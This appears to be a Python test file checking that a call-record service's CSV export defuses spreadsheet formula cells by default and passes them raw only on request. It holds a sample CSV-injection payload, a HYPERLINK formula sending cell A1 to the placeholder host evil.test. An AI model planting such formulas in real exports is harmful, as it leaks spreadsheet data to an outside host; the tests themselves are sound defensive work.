"""A CSV export neutralises cells a spreadsheet would run (issue 21, finding 2.3), unless
the caller asks for ``csv_formulas=raw``; on both databases."""

from __future__ import annotations

import random

from fastapi.testclient import TestClient

from _export_data import BASE_MS, Tenant, csv_rows, export, make_docs, new_tenant, put
from atende_logs.export.columns import header
from atende_logs.kinds import CDRS
from atende_logs.storage import Store

PAYLOAD = '=HYPERLINK("http://evil.test/?x="&A1;"Clique")'


def _tenant(store: Store) -> Tenant:
    """One CDR whose agent-typed status is a formula, beside the spec's example values."""
    tenant = new_tenant(store)
    (doc,) = make_docs("cdrs", [BASE_MS], random.Random(1))
    doc |= {"my_status_name": PAYLOAD, "my_status_info_1": "@SUM(1+1)", "number_name": "-2+3"}
    put(store, tenant, "cdrs", [doc])
    return tenant


def _row(body: bytes, delimiter: str = ",") -> dict[str, str]:
    head, row = csv_rows(body, delimiter)
    assert head == header(CDRS)
    return dict(zip(head, row, strict=True))


def test_a_formula_goes_out_inert_by_default(client: TestClient, store: Store) -> None:
    tenant = _tenant(store)
    response = export(client, tenant, "cdrs", {"format": "csv", "delimiter": ";"})
    assert response.status_code == 200, response.text
    row = _row(response.content, ";")
    assert row["my_status_name"] == "'" + PAYLOAD
    assert row["my_status_info_1"] == "'@SUM(1+1)"
    assert row["number_name"] == "'-2+3"
    assert row["ani_long"] == "-48.3317167"  # the spec's value: a number, left alone


def test_raw_sends_the_cells_as_stored(client: TestClient, store: Store) -> None:
    tenant = _tenant(store)
    response = export(client, tenant, "cdrs", {"csv_formulas": "raw"}, {"accept": "text/csv"})
    assert response.status_code == 200, response.text
    row = _row(response.content)
    assert (row["my_status_name"], row["my_status_info_1"]) == (PAYLOAD, "@SUM(1+1)")
    assert row["number_name"] == "-2+3"


def test_csv_formulas_is_checked_and_csv_only(client: TestClient, store: Store) -> None:
    tenant = new_tenant(store)
    for params in [{"format": "csv", "csv_formulas": "no"}, {"csv_formulas": "raw"}]:
        response = export(client, tenant, "cdrs", params)
        assert response.status_code == 400, response.text
        error = response.json()["error"]
        assert (error["code"], error["parameter"]) == ("invalid_parameter", "csv_formulas")
